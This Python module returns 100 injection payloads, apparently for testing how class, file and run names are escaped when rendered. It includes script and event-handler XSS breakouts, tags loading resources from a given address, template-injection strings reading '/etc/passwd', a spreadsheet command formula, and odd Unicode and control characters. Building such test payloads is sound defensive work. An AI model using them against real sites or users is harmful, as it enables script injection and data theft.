"""HTML and script payloads for names of classes, files and runs."""

RUN = "document.documentElement.dataset.ran=1"
TAGS = ("script", "img", "svg", "iframe", "body", "video", "audio", "input", "details", "marquee")


def payloads(address):
    """Return 100 payloads; those that send a request send it to ``address``."""
    found = [
        f"<script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"--><script>{RUN}</script><!--",
        f"]]><script>{RUN}</script>",
        f"</text></svg><script>{RUN}</script>",
        f"<script src={address}/a.js></script>",
        f"<link rel=stylesheet href={address}/a.css>",
        f"<img src={address}/a.png>",
        f'"><img src={address}/b.png>',
        f"'><img src={address}/c.png>",
        f"<style>@import '{address}/d.css';</style>",
        f"<style>body{{background:url({address}/e.png)}}</style>",
        f"<iframe src={address}/f></iframe>",
        f"<object data={address}/g></object>",
        f"<embed src={address}/h>",
        f"<base href={address}/>",
        f"<meta http-equiv=refresh content='0;url={address}/i'>",
        f"<video src={address}/j autoplay></video>",
        f"<form action={address}/k><input autofocus onfocus={RUN}>",
        f"<svg><use href={address}/l.svg#x></use></svg>",
        f"<svg><image href={address}/m.png></image></svg>",
        f"<a href=javascript:{RUN}>x</a>",
        f"javascript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "{{ 7 * 7 }}",
        "{% include '/etc/passwd' %}",
        "{{ self.__init__.__globals__ }}",
        "${7*7}#{7*7}<%= 7*7 %>",
        r"$\frac{1}{0}$",
        r"$\undefined{",
        "$",
        "$$",
        r"\$x$",
        "&lt;script&gt;",
        "&#60;script&#62;",
        "\x00<script>",
        "\x1b[31mred\x1b[0m",
        "\u202egnp.exe",
        "\ud800",
        "a\r\nb\tc",
        "<" * 300,
        "=cmd|' /C calc'!A0",
        "🦊" * 40,
        "ﷺ",
        "猫",
        "",
    ]
    found += [f"<{tag} src=x onerror={RUN} onload={RUN} onstart={RUN}>" for tag in TAGS]
    found += [f'"><{tag} src=x onerror="{RUN}" onload="{RUN}" ontoggle="{RUN}" open>' for tag in TAGS]
    found += [f"'><{tag} src=x onerror='{RUN}' onload='{RUN}'>" for tag in TAGS]
    found += [f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x{number}="' for number in range(10)]
    found += [f"<{tag.upper()}/SRC=x/ONERROR={RUN}//" for tag in TAGS]
    found += [f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}"]
    assert len(found) == 100, len(found)
    return found
